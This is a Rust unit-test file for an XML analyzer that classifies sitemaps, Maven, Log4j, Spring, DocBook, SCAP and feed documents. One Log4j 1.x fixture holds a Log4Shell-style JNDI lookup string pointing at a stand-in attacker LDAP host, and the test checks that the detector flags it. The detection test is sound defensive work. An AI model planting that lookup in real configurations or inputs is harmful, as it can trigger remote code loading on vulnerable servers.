use super::*;
use crate::config::SchemaConfig;
use crate::detector::DocumentTypeDetector;
use crate::schema::SchemaAccumulator;
use std::path::PathBuf;
use tempfile::TempDir;

fn write_doc(dir: &TempDir, name: &str, xml: &str) -> PathBuf {
    let path = dir.path().join(name);
    std::fs::write(&path, xml).unwrap();
    path
}

fn schema_at(path: &Path) -> DocumentSchema {
    let schema = SchemaAccumulator::analyze_path(path, &SchemaConfig::default()).unwrap();
    DocumentTypeDetector::new().classify(schema).0
}

fn report_for(xml: &str) -> HandlerReport {
    let dir = tempfile::tempdir().unwrap();
    let path = write_doc(&dir, "doc.xml", xml);
    let schema = schema_at(&path);
    HandlerRegistry::with_builtin_handlers().analyze(&schema, &path)
}

fn assert_metrics_bounded(report: &HandlerReport) {
    for (name, score) in &report.findings.quality_metrics {
        assert!((0.0..=1.0).contains(score), "{} = {}", name, score);
    }
}

/// Handler with fixed applicability that can be made to fail
struct FixedHandler {
    name: &'static str,
    probe: Probe,
    fail: bool,
}

impl FixedHandler {
    fn new(name: &'static str, confidence: f64) -> Self {
        Self {
            name,
            probe: Probe::applicable(confidence),
            fail: false,
        }
    }
}

impl DocumentHandler for FixedHandler {
    fn name(&self) -> &str {
        self.name
    }

    fn probe(&self, _schema: &DocumentSchema) -> Probe {
        self.probe
    }

    fn analyze(&self, _schema: &DocumentSchema, _path: &Path) -> Result<Findings, HandlerError> {
        if self.fail {
            Err(HandlerError::MissingData {
                handler: self.name.to_string(),
                what: "anything useful".to_string(),
            })
        } else {
            Ok(Findings::new(self.name))
        }
    }
}

fn plain_schema() -> DocumentSchema {
    SchemaAccumulator::analyze_bytes(b"<inventory><item/></inventory>", "x.xml", &SchemaConfig::default())
        .unwrap()
}

// ========================================================================
// Registry
// ========================================================================

#[test]
fn test_builtin_handlers() {
    let registry = HandlerRegistry::with_builtin_handlers();
    assert_eq!(registry.handler_count(), 7);
    assert_eq!(
        registry.handler_names(),
        vec!["scap", "sitemap", "maven", "feed", "log4j", "spring", "docbook"]
    );
    assert_eq!(HandlerRegistry::new().handler_count(), 0);
}

#[test]
fn test_fallback_when_nothing_applies() {
    let report = report_for("<inventory><item sku=\"1\">Bolt</item><item sku=\"2\"/></inventory>");

    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.is_none());
    assert_eq!(report.findings.document_type, "GENERIC_XML");
    assert_eq!(report.findings.data_inventory["item"], 2);
    assert_eq!(report.findings.key_findings["root_element"], "inventory");
    assert_metrics_bounded(&report);
}

#[test]
fn test_select_highest_confidence() {
    let mut registry = HandlerRegistry::new();
    registry.register(FixedHandler::new("low", 0.5));
    registry.register(FixedHandler::new("high", 0.9));
    registry.register(FixedHandler::new("tied", 0.9));
    registry.register(FixedHandler {
        name: "inapplicable",
        probe: Probe::not_applicable(),
        fail: false,
    });

    let (handler, probe) = registry.select(&plain_schema());
    assert_eq!(handler.name(), "high");
    assert_eq!(probe.confidence, 0.9);
}

#[test]
fn test_select_falls_back_to_generic() {
    let mut registry = HandlerRegistry::new();
    registry.register(FixedHandler {
        name: "inapplicable",
        probe: Probe::not_applicable(),
        fail: false,
    });

    let (handler, _) = registry.select(&plain_schema());
    assert_eq!(handler.name(), "generic");
}

#[test]
fn test_failing_handler_falls_back() {
    let mut registry = HandlerRegistry::new();
    registry.register(FixedHandler {
        fail: true,
        ..FixedHandler::new("broken", 1.0)
    });

    let schema = plain_schema();
    let report = registry.analyze(&schema, Path::new("x.xml"));
    assert_eq!(report.handler, "generic");
    let reason = report.fallback_reason.unwrap();
    assert!(reason.contains("broken"), "{}", reason);
    assert!(reason.contains("anything useful"), "{}", reason);
}

#[test]
fn test_unreadable_file_falls_back() {
    let schema = SchemaAccumulator::analyze_bytes(
        b"<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"/>",
        "gone.xml",
        &SchemaConfig::default(),
    )
    .unwrap();
    let report =
        HandlerRegistry::with_builtin_handlers().analyze(&schema, Path::new("/nonexistent/gone.xml"));

    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().starts_with("sitemap"));
}

#[test]
fn test_metric_clamping() {
    let findings = Findings::new("x")
        .metric("over", 1.5)
        .metric("under", -1.0)
        .metric("nan", f64::NAN);
    assert_eq!(findings.quality_metrics["over"], 1.0);
    assert_eq!(findings.quality_metrics["under"], 0.0);
    assert_eq!(findings.quality_metrics["nan"], 0.0);
}

// ========================================================================
// Sitemaps
// ========================================================================

const SITEMAP: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <url>
    <loc>https://example.com/</loc>
    <lastmod>2024-01-01</lastmod>
    <changefreq>daily</changefreq>
    <priority>1.0</priority>
  </url>
  <url>
    <loc>https://example.com/docs/intro</loc>
    <lastmod>2024-03-15</lastmod>
    <changefreq>weekly</changefreq>
    <priority>0.8</priority>
  </url>
  <url>
    <loc>https://blog.example.com/post</loc>
    <lastmod>2023-12-24</lastmod>
    <changefreq>weekly</changefreq>
  </url>
</urlset>
"#;

#[test]
fn test_sitemap_findings() {
    let report = report_for(SITEMAP);

    assert_eq!(report.handler, "sitemap");
    assert_eq!(report.confidence, 1.0);
    let findings = &report.findings;
    assert_eq!(findings.document_type, "XML Sitemap");
    assert_eq!(findings.key_findings["url_count"], 3);
    assert_eq!(findings.key_findings["change_frequencies"]["weekly"], 2);
    assert_eq!(findings.key_findings["last_modified"]["latest"], "2024-03-15");
    assert_eq!(findings.key_findings["last_modified"]["oldest"], "2023-12-24");
    assert_eq!(findings.key_findings["last_modified"]["count"], 3);
    assert_eq!(
        findings.key_findings["url_patterns"]["domains"],
        serde_json::json!(["blog.example.com", "example.com"])
    );
    assert_eq!(findings.data_inventory["urls"], 3);
    assert_eq!(findings.structured_data["urls"][1]["loc"], "https://example.com/docs/intro");

    let completeness = findings.quality_metrics["completeness"];
    assert!((completeness - 0.9).abs() < 1e-9, "{}", completeness);
    assert_metrics_bounded(&report);
}

#[test]
fn test_sitemap_index() {
    let report = report_for(
        r#"<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sitemap><loc>https://example.com/a.xml</loc><lastmod>2024-01-01</lastmod></sitemap>
  <sitemap><loc>https://example.com/b.xml</loc></sitemap>
</sitemapindex>"#,
    );

    assert_eq!(report.findings.document_type, "XML Sitemap Index");
    assert_eq!(report.findings.key_findings["sitemap_count"], 2);
    assert_eq!(report.findings.data_inventory["sitemaps"], 2);
}

// ========================================================================
// Maven
// ========================================================================

const POM: &str = r#"<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.example</groupId>
  <artifactId>demo</artifactId>
  <version>1.2.0</version>
  <description>Demo service</description>
  <properties>
    <java.version>17</java.version>
  </properties>
  <dependencyManagement>
    <dependencies>
      <dependency><groupId>org.bom</groupId><artifactId>bom</artifactId><version>1</version></dependency>
    </dependencies>
  </dependencyManagement>
  <dependencies>
    <dependency><groupId>org.a</groupId><artifactId>a</artifactId><version>1.0</version></dependency>
    <dependency><groupId>org.b</groupId><artifactId>b</artifactId></dependency>
    <dependency><groupId>junit</groupId><artifactId>junit</artifactId><version>4.13</version><scope>test</scope></dependency>
  </dependencies>
  <build>
    <plugins>
      <plugin><artifactId>maven-compiler-plugin</artifactId><version>3.11.0</version></plugin>
    </plugins>
  </build>
</project>
"#;

#[test]
fn test_maven_findings() {
    let report = report_for(POM);

    assert_eq!(report.handler, "maven");
    let findings = &report.findings;
    assert_eq!(findings.data_inventory["dependencies"], 3);
    assert_eq!(findings.data_inventory["plugins"], 1);
    assert_eq!(findings.data_inventory["properties"], 1);
    assert_eq!(findings.key_findings["dependencies"]["by_scope"]["compile"], 2);
    assert_eq!(findings.key_findings["dependencies"]["by_scope"]["test"], 1);
    assert_eq!(findings.key_findings["dependencies"]["management"], 1);
    assert_eq!(findings.key_findings["properties"]["java.version"], "17");
    assert_eq!(findings.structured_data["coordinates"]["artifact_id"], "demo");
    assert_eq!(findings.structured_data["coordinates"]["packaging"], "jar");

    assert_eq!(findings.quality_metrics["completeness"], 0.5);
    assert_eq!(findings.quality_metrics["best_practices"], 0.8);
    let managed = findings.quality_metrics["dependency_management"];
    assert!((managed - 2.0 / 3.0).abs() < 1e-9);
}

#[test]
fn test_maven_without_coordinates_falls_back() {
    let report = report_for(
        r#"<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion></project>"#,
    );

    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().contains("project coordinates"));
}

// ========================================================================
// Log4j
// ========================================================================

#[test]
fn test_log4j2_findings() {
    let report = report_for(
        r#"<Configuration status="WARN" monitorInterval="30">
  <Appenders>
    <Console name="Console" target="SYSTEM_ERR"><PatternLayout pattern="%d %m%n"/></Console>
    <RollingFile name="Rolling" fileName="logs/app.log" filePattern="logs/app-%i.log"/>
    <Socket name="Remote" host="logs.example.com" port="4560"/>
  </Appenders>
  <Loggers>
    <Logger name="com.example" level="debug" additivity="false"/>
    <Root level="info"><AppenderRef ref="Console"/></Root>
  </Loggers>
</Configuration>"#,
    );

    assert_eq!(report.handler, "log4j");
    assert_eq!(report.confidence, 0.9);
    let findings = &report.findings;
    assert_eq!(findings.document_type, "Log4j Configuration");
    assert_eq!(findings.key_findings["version"], "2.x");
    assert_eq!(findings.data_inventory["appenders"], 3);
    assert_eq!(findings.data_inventory["loggers"], 2);
    assert_eq!(findings.key_findings["appenders"][0]["target"], "SYSTEM_ERR");
    assert_eq!(findings.key_findings["appenders"][1]["type"], "RollingFile");
    assert_eq!(findings.key_findings["appenders"][1]["target"], "logs/app.log");
    assert_eq!(findings.key_findings["loggers"][0]["additivity"], "false");
    assert_eq!(findings.key_findings["loggers"][1]["name"], "ROOT");
    assert_eq!(findings.key_findings["log_levels"]["DEBUG"], 1);
    assert_eq!(findings.key_findings["log_levels"]["INFO"], 1);
    assert_eq!(
        findings.key_findings["security_concerns"],
        serde_json::json!(["External socket appender detected"])
    );
    assert_eq!(findings.structured_data["global_settings"]["status"], "WARN");
    assert_eq!(findings.structured_data["global_settings"]["monitorInterval"], "30");

    assert_eq!(findings.quality_metrics["security"], 0.3);
    assert_eq!(findings.quality_metrics["production_ready"], 1.0);
    assert_eq!(findings.quality_metrics["reliability"], 1.0);
}

#[test]
fn test_log4j1_findings() {
    let report = report_for(
        r#"<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/" debug="true">
  <appender name="file" class="org.apache.log4j.RollingFileAppender">
    <param name="File" value="app.log"/>
    <layout class="org.apache.log4j.PatternLayout">
      <param name="ConversionPattern" value="${jndi:ldap://attacker.example/a} %m%n"/>
    </layout>
  </appender>
  <appender name="console" class="org.apache.log4j.ConsoleAppender"/>
  <logger name="com.example"><level value="debug"/></logger>
  <root><priority value="warn"/><appender-ref ref="console"/></root>
</log4j:configuration>"#,
    );

    assert_eq!(report.handler, "log4j");
    assert_eq!(report.confidence, 1.0);
    let findings = &report.findings;
    assert_eq!(findings.key_findings["version"], "1.x");
    assert_eq!(findings.key_findings["appenders"][0]["type"], "RollingFile");
    assert_eq!(findings.key_findings["appenders"][1]["type"], "Console");
    assert_eq!(findings.key_findings["loggers"][0]["name"], "com.example");
    assert_eq!(findings.key_findings["loggers"][0]["level"], "debug");
    assert_eq!(findings.key_findings["loggers"][1]["name"], "ROOT");
    assert_eq!(findings.key_findings["loggers"][1]["level"], "warn");
    assert_eq!(findings.key_findings["log_levels"]["WARN"], 1);
    assert_eq!(
        findings.key_findings["security_concerns"],
        serde_json::json!(["Potential JNDI lookup pattern detected"])
    );
    assert_eq!(findings.structured_data["global_settings"]["debug"], "true");
    assert_eq!(findings.quality_metrics["security"], 0.3);
    assert_metrics_bounded(&report);
}

#[test]
fn test_log4j_without_appenders_falls_back() {
    let report = report_for("<Configuration status=\"WARN\"><Appenders/></Configuration>");
    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().contains("appenders or loggers"));
}

// ========================================================================
// Spring
// ========================================================================

const SPRING_CONTEXT: &str = r#"<beans xmlns="http://www.springframework.org/schema/beans"
       xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
       xmlns:context="http://www.springframework.org/schema/context"
       xmlns:tx="http://www.springframework.org/schema/tx"
       xsi:schemaLocation="http://www.springframework.org/schema/beans http://www.springframework.org/schema/beans/spring-beans-4.3.xsd">
  <import resource="classpath:data.xml"/>
  <context:component-scan base-package="com.example.web"/>
  <bean id="props" class="org.springframework.beans.factory.config.PropertyPlaceholderConfigurer">
    <property name="location"><value>classpath:app.properties</value></property>
  </bean>
  <bean id="repo" class="com.example.Repo" scope="prototype" lazy-init="true">
    <property name="timeout" value="30"/>
  </bean>
  <bean id="repo2" class="com.example.Repo"/>
  <beans profile="dev, test">
    <bean id="devSource" class="com.example.DevSource"/>
  </beans>
  <tx:annotation-driven/>
</beans>
"#;

#[test]
fn test_spring_findings() {
    let report = report_for(SPRING_CONTEXT);

    assert_eq!(report.handler, "spring");
    assert_eq!(report.confidence, 1.0);
    let findings = &report.findings;
    assert_eq!(findings.document_type, "Spring Configuration");
    assert_eq!(findings.key_findings["version"], "4.3");
    assert_eq!(findings.key_findings["beans"]["count"], 4);
    assert_eq!(findings.key_findings["beans"]["by_scope"]["singleton"], 3);
    assert_eq!(findings.key_findings["beans"]["by_scope"]["prototype"], 1);
    assert_eq!(findings.key_findings["beans"]["lazy_count"], 1);
    assert_eq!(findings.key_findings["beans"]["common_classes"]["com.example.Repo"], 2);
    assert_eq!(findings.key_findings["profiles"], serde_json::json!(["dev", "test"]));
    assert_eq!(findings.key_findings["imports"], serde_json::json!(["classpath:data.xml"]));
    assert_eq!(
        findings.key_findings["property_sources"][0]["location"],
        "classpath:app.properties"
    );
    assert_eq!(findings.key_findings["aop_config"], false);
    assert_eq!(findings.key_findings["security_config"]["present"], false);
    assert_eq!(findings.structured_data["component_scans"][0], "com.example.web");
    assert_eq!(
        findings.structured_data["configurations"]["transaction_management"],
        true
    );
    assert_eq!(findings.structured_data["bean_definitions"][1]["id"], "repo");
    assert_eq!(findings.data_inventory["beans"], 4);
    assert_eq!(findings.data_inventory["profiles"], 2);

    assert_eq!(findings.quality_metrics["maintainability"], 0.8);
    assert_eq!(findings.quality_metrics["flexibility"], 1.0);
    assert_eq!(findings.quality_metrics["configuration_management"], 1.0);
}

#[test]
fn test_spring_without_beans_falls_back() {
    let report = report_for("<beans><description>nothing here</description></beans>");
    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().contains("bean definitions"));
}

// ========================================================================
// DocBook
// ========================================================================

const DOCBOOK: &str = r#"<book xmlns="http://docbook.org/ns/docbook" version="5.0">
  <info>
    <title>Rust Field Guide</title>
    <author><personname><firstname>Ada</firstname><surname>Lovelace</surname></personname></author>
    <date>2024-02-01</date>
    <abstract><para>A short guide.</para></abstract>
  </info>
  <chapter>
    <title>Introduction</title>
    <para>Welcome. See <xref linkend="setup"/>.</para>
    <section>
      <title>Setup</title>
      <para>Install the toolchain.</para>
      <warning><para>Back up first.</para></warning>
      <programlisting language="rust">fn main() {}</programlisting>
    </section>
    <section>
      <title>Layout</title>
      <section><title>Nested</title><para>Deep.</para></section>
      <mediaobject><imageobject><imagedata fileref="layout.png" format="PNG"/></imageobject></mediaobject>
    </section>
  </chapter>
  <chapter>
    <title>Reference</title>
    <example><title>Hello</title><programlisting>println!("hi");</programlisting></example>
    <glossary>
      <glossentry><glossterm>Crate</glossterm><glossdef><para>A compilation unit.</para></glossdef></glossentry>
    </glossary>
  </chapter>
</book>
"#;

#[test]
fn test_docbook_findings() {
    let report = report_for(DOCBOOK);

    assert_eq!(report.handler, "docbook");
    assert_eq!(report.confidence, 1.0);
    let findings = &report.findings;
    assert_eq!(findings.document_type, "DocBook Documentation");

    let structure = &findings.key_findings["structure"];
    assert_eq!(structure["type"], "book");
    assert_eq!(structure["total_sections"], 3);
    assert_eq!(structure["max_depth"], 2);
    assert_eq!(structure["chapters"][0]["title"], "Introduction");
    assert_eq!(structure["chapters"][0]["sections"], 3);
    assert_eq!(structure["chapters"][1]["sections"], 0);

    let metadata = &findings.key_findings["metadata"];
    assert_eq!(metadata["title"], "Rust Field Guide");
    assert_eq!(metadata["author"], "Ada Lovelace");
    assert_eq!(metadata["date"], "2024-02-01");
    assert_eq!(metadata["abstract"], "A short guide.");

    assert_eq!(findings.key_findings["content_stats"]["paragraphs"], 6);
    assert_eq!(findings.key_findings["content_stats"]["warnings"], 1);
    assert_eq!(findings.key_findings["media"][0]["fileref"], "layout.png");
    assert_eq!(findings.key_findings["cross_references"]["targets"], serde_json::json!(["setup"]));
    assert_eq!(findings.data_inventory["chapters"], 2);
    assert_eq!(findings.data_inventory["media_items"], 1);

    assert_eq!(findings.structured_data["title"], "Rust Field Guide");
    assert_eq!(
        findings.structured_data["table_of_contents"][0]["sections"],
        serde_json::json!(["Setup", "Layout", "Nested"])
    );
    assert_eq!(findings.structured_data["glossary"][0]["term"], "Crate");
    assert_eq!(findings.structured_data["glossary"][0]["definition"], "A compilation unit.");
    assert_eq!(findings.structured_data["code_examples"][0]["language"], "rust");
    assert_eq!(findings.structured_data["code_examples"][1]["language"], "unknown");

    assert_eq!(findings.quality_metrics["completeness"], 1.0);
    let coverage = findings.quality_metrics["example_coverage"];
    assert!((coverage - 1.0 / 3.0).abs() < 1e-9);
    assert_eq!(findings.quality_metrics["safety_documentation"], 1.0);
}

#[test]
fn test_docbook_without_content_falls_back() {
    let report = report_for("<article><title>Empty</title></article>");
    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().starts_with("docbook"));
}

// ========================================================================
// SCAP
// ========================================================================

const BENCHMARK: &str = r#"<Benchmark xmlns="http://checklists.nist.gov/xccdf/1.2" id="xccdf_bench">
  <title>Example Benchmark</title>
  <Group id="g1">
    <Rule id="r1" severity="high"><title>Disable telnet</title></Rule>
    <Rule id="r2" severity="medium"><title>Set password length</title></Rule>
    <Rule id="r3"/>
  </Group>
  <TestResult id="t1">
    <target>host-01</target>
    <rule-result idref="r1"><result>pass</result></rule-result>
    <rule-result idref="r2"><result>fail</result></rule-result>
    <rule-result idref="r3"><result>pass</result></rule-result>
    <score system="urn:xccdf:scoring:default">66.7</score>
  </TestResult>
</Benchmark>
"#;

#[test]
fn test_scap_findings() {
    let report = report_for(BENCHMARK);

    assert_eq!(report.handler, "scap");
    assert!((report.confidence - 0.5).abs() < 1e-9);
    let findings = &report.findings;
    assert_eq!(findings.key_findings["benchmark_title"], "Example Benchmark");
    assert_eq!(findings.key_findings["total_rules"], 3);
    assert_eq!(findings.key_findings["severity_counts"]["high"], 1);
    assert_eq!(findings.key_findings["rule_results"]["pass"], 2);
    assert_eq!(findings.data_inventory["groups"], 1);
    assert_eq!(findings.data_inventory["rule_results"], 3);
    assert_eq!(findings.structured_data["rules"][0]["title"], "Disable telnet");
    assert_eq!(findings.structured_data["targets"][0], "host-01");

    let compliance = findings.quality_metrics["compliance"];
    assert!((compliance - 2.0 / 3.0).abs() < 1e-9);
    let severity = findings.quality_metrics["severity_coverage"];
    assert!((severity - 2.0 / 3.0).abs() < 1e-9);
    assert_metrics_bounded(&report);
}

#[test]
fn test_scap_without_content_falls_back() {
    let report = report_for(
        r#"<Benchmark xmlns="http://checklists.nist.gov/xccdf/1.2"><status>draft</status></Benchmark>"#,
    );
    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().starts_with("scap"));
}

// ========================================================================
// Feeds
// ========================================================================

#[test]
fn test_rss_findings() {
    let report = report_for(
        r#"<rss version="2.0"><channel>
  <title>Example News</title>
  <item><title>One</title><link>https://example.com/1</link><pubDate>Mon, 02 Jan 2023 10:00:00 +0000</pubDate><category>rust</category></item>
  <item><title>Two</title><link>https://example.com/2</link><pubDate>Tue, 03 Jan 2023 08:30:00 GMT</pubDate><category>rust</category><category>xml</category></item>
  <item><title>Three</title><pubDate>sometime</pubDate></item>
</channel></rss>"#,
    );

    assert_eq!(report.handler, "feed");
    let findings = &report.findings;
    assert_eq!(findings.document_type, "RSS Feed");
    assert_eq!(findings.key_findings["title"], "Example News");
    assert_eq!(findings.key_findings["item_count"], 3);
    assert_eq!(findings.key_findings["categories"]["rust"], 2);
    assert_eq!(
        findings.key_findings["publication_range"]["latest"],
        "2023-01-03T08:30:00+00:00"
    );
    assert_eq!(findings.key_findings["publication_range"]["unparsed"], 1);
    let completeness = findings.quality_metrics["completeness"];
    assert!((completeness - 2.0 / 3.0).abs() < 1e-9);
}

#[test]
fn test_atom_findings() {
    let report = report_for(
        r#"<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Atom Example</title>
  <entry>
    <title>First</title>
    <link href="https://example.com/first"/>
    <updated>2024-05-01T12:00:00Z</updated>
    <author><name>Ada</name></author>
    <category term="news"/>
  </entry>
</feed>"#,
    );

    assert_eq!(report.handler, "feed");
    assert_eq!(report.confidence, 0.9);
    let findings = &report.findings;
    assert_eq!(findings.document_type, "Atom Feed");
    assert_eq!(findings.structured_data["items"][0]["link"], "https://example.com/first");
    assert_eq!(findings.key_findings["authors"]["Ada"], 1);
    assert_eq!(findings.key_findings["categories"]["news"], 1);
    assert_eq!(findings.quality_metrics["completeness"], 1.0);
}

#[test]
fn test_feed_date_range_compares_instants() {
    let report = report_for(
        r#"<rss version="2.0"><channel>
  <item><title>a</title><pubDate>Tue, 03 Jan 2023 02:00:00 +0000</pubDate></item>
  <item><title>b</title><pubDate>Mon, 02 Jan 2023 23:00:00 -0500</pubDate></item>
  <item><title>c</title><pubDate>Tue, 03 Jan 2023 03:00:00 +0200</pubDate></item>
</channel></rss>"#,
    );

    let range = &report.findings.key_findings["publication_range"];
    assert_eq!(range["latest"], "2023-01-02T23:00:00-05:00");
    assert_eq!(range["oldest"], "2023-01-03T03:00:00+02:00");
    assert_eq!(range["unparsed"], 0);
    assert_eq!(report.findings.quality_metrics["date_validity"], 1.0);
}

#[test]
fn test_rss_without_channel_falls_back() {
    let report = report_for("<rss version=\"2.0\"><item><title>x</title></item></rss>");
    assert_eq!(report.handler, "generic");
    assert!(report.fallback_reason.unwrap().contains("channel"));
}
